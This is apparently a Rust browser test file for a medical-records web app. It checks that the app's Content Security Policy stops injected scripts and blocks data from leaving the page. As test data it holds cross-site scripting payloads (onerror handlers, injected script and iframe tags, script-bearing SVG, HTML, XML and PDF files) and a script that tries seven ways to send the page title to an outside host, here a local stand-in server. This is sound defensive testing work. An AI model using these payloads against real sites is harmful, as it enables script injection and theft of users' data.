//! Attack 25, its last part: foreign code in the page. Titles, names and documents full of it stay
//! text; a script that somebody got into the page does not run, and nothing of the page gets out.
//! Against the host that serves the page nothing of this helps: see `docs/THREAT-MODEL.md`.

use scelle_tests::browser::Browser;
use scelle_tests::files;
use scelle_tests::host::Host;
use scelle_tests::liar::{Door, Liar};
use scelle_tests::patient::{Description, Patient, Person};
use scelle_tests::wait::LONG;
use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tempfile::TempDir;

/// Somewhere else on the network: remembers what it was asked, and lets everybody ask.
struct Elsewhere {
    origin: String,
    asked: Arc<Mutex<Vec<String>>>,
    over: Arc<AtomicBool>,
}

impl Elsewhere {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
        let origin = format!("http://{}", listener.local_addr().expect("a bound socket"));
        let (asked, over) = (Arc::<Mutex<Vec<String>>>::default(), Arc::<AtomicBool>::default());
        let (told, ends) = (Arc::clone(&asked), Arc::clone(&over));
        std::thread::spawn(move || {
            for line in listener.incoming().flatten() {
                if ends.load(Ordering::SeqCst) {
                    break;
                }
                let told = Arc::clone(&told);
                std::thread::spawn(move || answers(line, &told));
            }
        });
        Self { origin, asked, over }
    }

    /// First lines of what was asked, after whatever is on its way has come.
    fn asked(&self) -> Vec<String> {
        std::thread::sleep(Duration::from_millis(700));
        std::mem::take(&mut *self.asked.lock().expect("no thread of ours panics"))
    }
}

impl Drop for Elsewhere {
    fn drop(&mut self) {
        self.over.store(true, Ordering::SeqCst);
        drop(TcpStream::connect(self.origin.trim_start_matches("http://")));
    }
}

fn answers(mut line: TcpStream, told: &Mutex<Vec<String>>) {
    let mut head = [0; 4096];
    let _ = line.set_read_timeout(Some(Duration::from_secs(2)));
    let length = line.read(&mut head).unwrap_or_default();
    let first = String::from_utf8_lossy(&head[..length]).lines().next().unwrap_or_default().to_owned();
    let script = "globalThis.ran = (globalThis.ran || '') + ' foreign';";
    let answer = format!(
        "HTTP/1.1 200 OK\r\ncontent-type: text/javascript\r\naccess-control-allow-origin: *\r\n\
         access-control-allow-headers: *\r\ncross-origin-resource-policy: cross-origin\r\ncontent-length: {}\r\n\
         connection: close\r\n\r\n{script}",
        script.len()
    );
    if !first.is_empty() {
        told.lock().expect("no thread of ours panics").push(first);
        let _ = line.write_all(answer.as_bytes());
    }
}

/// As it would stand in the page after a flaw of ours: inline, from elsewhere, as a handler.
fn injected(elsewhere: &str) -> String {
    format!(
        "<script>globalThis.ran = (globalThis.ran || '') + ' inline';</script>\
         <script src=\"{elsewhere}/script.js\"></script>\
         <img src=\"/none.png\" onerror=\"globalThis.ran = (globalThis.ran || '') + ' handler'\">\
         <link rel=\"stylesheet\" href=\"{elsewhere}/style.css\"><img src=\"{elsewhere}/pixel.png\">\
         <iframe src=\"{elsewhere}/frame\"></iframe><object data=\"{elsewhere}/object\"></object>"
    )
}

#[test]
fn a_script_in_the_page_runs_and_reaches_elsewhere_only_where_the_policy_is_taken_off() {
    let (liar, elsewhere) = (Liar::new(), Elsewhere::new());
    let host = Host::behind(&liar);
    let browser = Browser::start(&[&host.page(), &host.api()]);
    for policy in [true, false] {
        let markup = injected(&elsewhere.origin);
        liar.lies(move |asked, told| {
            if told.header("content-type").is_some_and(|media| media.starts_with("text/html")) {
                let page = String::from_utf8_lossy(&told.body).replace("</body>", &format!("{markup}</body>"));
                told.body = page.into_bytes();
            }
            if !policy && !asked.path.is_empty() {
                told.headers.retain(|(name, _)| name != "content-security-policy" && !name.starts_with("cross-origin"));
            }
        });
        // The page as it is: it would come packed, and be left alone.
        liar.whispers(|asked| {
            asked.headers.retain(|(name, _)| name != "accept-encoding" && name != "if-none-match");
            None
        });
        let tab = browser.tab(&format!("{}/entrer", host.page()));
        let asked = elsewhere.asked();
        let ran = tab.evaluate("globalThis.ran || ''");
        let ran = ran.as_str().unwrap_or_default();
        if policy {
            tab.sees("Identifiant");
            assert_eq!((ran, &asked[..]), ("", &[][..]), "foreign code ran, or something got out");
            let broken = browser.complaints().iter().filter(|one| one.contains("ContentSecurityPolicyIssue")).count();
            assert!(broken >= 5, "the control: the browser says that it was the policy");
        } else {
            // The control: all of it works on the same page without its one header.
            for what in ["inline", "foreign", "handler"] {
                assert!(ran.contains(what), "{what} did not run: {ran}");
            }
            for what in ["script.js", "style.css", "pixel.png", "frame", "object"] {
                assert!(asked.iter().any(|line| line.contains(what)), "{what} was not asked for: {asked:?}");
            }
        }
        browser.forgives("");
    }
    assert!(liar.lied() > 0 && liar.heard().iter().any(|one| one.door == Door::Page));
}

/// Whoever runs in the page all the same, and reads the record that is open, has no way to tell
/// anybody: no request, no picture, no line that stays open. Leaving the page for another address is
/// the one way that no policy closes; the session then ends with the page.
#[test]
fn what_runs_in_an_open_record_cannot_send_it_elsewhere() {
    let (liar, elsewhere) = (Liar::new(), Elsewhere::new());
    let host = Host::behind(&liar);
    let browser = Browser::start(&[&host.page(), &host.api()]);
    let patient = Patient::at(&browser, &host, Person::helene());
    patient.opens_a_record();
    patient.tab.evaluate(&tells(&elsewhere.origin));
    assert_eq!(elsewhere.asked(), Vec::<String>::new());
    // Nor does a text become code.
    for (sink, policy) in [("eval('1')", "unsafe-eval"), ("new Function('return 1')()", "unsafe-eval")] {
        assert_eq!(runs(&patient, sink), "EvalError", "{policy}");
    }
    for sink in [
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>')",
        "document.createElement('script').text = '1'",
        "document.createElement('script').src = '/other.js'",
        "new Worker('/other.js')",
        "document.createElement('iframe').srcdoc = '<script>1</script>'",
    ] {
        assert_eq!(runs(&patient, sink), "TypeError", "{sink}");
    }
    browser.forgives("");

    // The control: without the policy each of these ways is open, and each sink is one.
    liar.lies(|_, told| {
        told.headers.retain(|(name, _)| name != "content-security-policy" && !name.starts_with("cross-origin"));
    });
    let bare = browser.tab(&format!("{}/entrer", host.page()));
    bare.evaluate(&tells(&elsewhere.origin));
    let asked = elsewhere.asked();
    for what in ["fetch", "beacon", "picture", "socket", "events", "style", "form"] {
        assert!(asked.iter().any(|line| line.contains(what)), "{what} did not come: {asked:?}");
    }
    let worked = bare.evaluate(
        "(() => { globalThis.ran = 0; document.body.insertAdjacentHTML('beforeend', \
         '<img src=x onerror=\"globalThis.ran = 1\">'); \
         return new Promise(told => setTimeout(() => told(globalThis.ran), 500)); })()",
    );
    assert_eq!(worked, 1);
    browser.forgives("");
}

/// All ways out that a script tries; each names itself.
fn tells(elsewhere: &str) -> String {
    format!(
        "(() => {{ const to = (what) => '{elsewhere}/' + what + '?' + encodeURIComponent(document.title); \
         const tries = [ \
           () => fetch(to('fetch'), {{ mode: 'no-cors' }}).catch(() => {{}}), \
           () => navigator.sendBeacon(to('beacon'), 'x'), \
           () => {{ new Image().src = to('picture'); }}, \
           () => {{ new WebSocket(to('socket').replace('http', 'ws')); }}, \
           () => {{ new EventSource(to('events')); }}, \
           () => {{ const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = to('style'); \
                    document.head.append(link); }}, \
           () => {{ const frame = document.createElement('iframe'); frame.name = 'out'; document.body.append(frame); \
                    const form = document.createElement('form'); form.target = 'out'; form.action = to('form'); \
                    document.body.append(form); form.submit(); }}, \
         ]; \
         for (const one of tries) {{ try {{ one(); }} catch {{ }} }} }})()"
    )
}

/// Name of the error that this throws in the page; the developer protocol is told to respect the
/// policy as a script must.
fn runs(patient: &Patient, sink: &str) -> String {
    let expression =
        format!("(() => {{ try {{ {sink}; return 'it works'; }} catch (error) {{ return error.name; }} }})()");
    let ask = serde_json::json!({
        "expression": expression, "returnByValue": true, "allowUnsafeEvalBlockedByCSP": false,
    });
    let answer = patient.tab.call("Runtime.evaluate", ask);
    answer["result"]["value"].as_str().unwrap_or_default().to_owned()
}

#[test]
fn titles_names_and_documents_full_of_code_stay_text() {
    let host = Host::start();
    let browser = Browser::start(&[&host.page(), &host.api()]);
    let person = Person { name: format!("Aubanel{MARKUP}"), contact: MARKUP.into(), ..Person::helene() };
    let patient = Patient::at(&browser, &host, person);
    patient.opens_a_record();
    // The control: this is code. In a page of its own it runs.
    let alone = browser.tab("about:blank");
    let ran = format!(
        "(() => {{ document.body.innerHTML = `{MARKUP}`; \
         return new Promise(told => setTimeout(() => told(globalThis.ran || 0), 500)); }})()"
    );
    assert_eq!(alone.evaluate(&ran), 1);
    browser.forgives("");
    alone.closes();
    patient.tab.call("Page.bringToFront", serde_json::json!({}));

    let folder = TempDir::new().expect("a folder");
    let before = elements(&patient);
    for (number, (name, content)) in documents().iter().enumerate() {
        let title = format!("{number} {MARKUP}");
        let path = files::write(folder.path(), name, content);
        patient.deposits(&path, &Description::of(&title));
        patient.goes_to("Documents", "/documents");
        patient.tab.link(&title).clicks();
        patient.tab.sees_within("Contenu entier et signature vérifiés à l’ouverture", LONG);
        patient.tab.sees(&title);
        // What is shown of it is shown by now, and what would run has run.
        std::thread::sleep(Duration::from_millis(300));
        assert_eq!(patient.tab.evaluate("globalThis.ran || 0"), 0, "{name}");
        assert_eq!(elements(&patient), before, "{name}");
        // Browsers write no file of such a name.
        let saved = name.replace(['<', '>'], "_");
        assert!(patient.saves_the_original(&saved) == *content, "{name} came back different");
    }
    let journal = patient.reads_the_journal();
    assert!(journal.iter().any(|line| line.contains(MARKUP)), "{journal:?}");
    assert_eq!((patient.tab.evaluate("globalThis.ran || 0"), elements(&patient)), (0.into(), before));
}

/// What must not come into the page: how many there are.
fn elements(patient: &Patient) -> u64 {
    let count = "document.querySelectorAll('script, iframe, object, embed, svg script, foreignObject, [onerror], \
                 [onload], img[src=x], style, base, form[action]').length";
    patient.tab.evaluate(count).as_u64().expect("a number")
}

/// Documents of kinds that run somewhere, under names that would run where a name were markup.
fn documents() -> Vec<(&'static str, Vec<u8>)> {
    let svg = format!("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"globalThis.ran = 1\">{MARKUP}</svg>");
    let html = format!("<!doctype html><html><body onload=\"globalThis.ran = 1\">{MARKUP}</body></html>");
    let xml = format!(
        "<?xml version=\"1.0\"?><ClinicalDocument xmlns=\"urn:hl7-org:v3\"><title>{MARKUP}</title>\
         <h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">globalThis.ran = 1</h:script></ClinicalDocument>"
    );
    let pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(globalThis.ran = 1)>>\
        /Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>>>endobj\n\
        2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n\
        3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]\
        /A<</S/URI/URI(javascript:globalThis.ran=1)>>>>]>>endobj\ntrailer<</Root 1 0 R>>\n";
    vec![
        ("<img src=x onerror=globalThis.ran=1>.txt", MARKUP.as_bytes().to_vec()),
        ("image.svg", svg.into_bytes()),
        ("page.html", html.into_bytes()),
        ("compte-rendu.xml", xml.into_bytes()),
        ("poumons.dcm", files::dicom(MARKUP, 16)),
        ("lettre.pdf", pdf.to_vec()),
    ]
}

const MARKUP: &str = "<img src=x onerror=\"globalThis.ran = 1\"><b>";
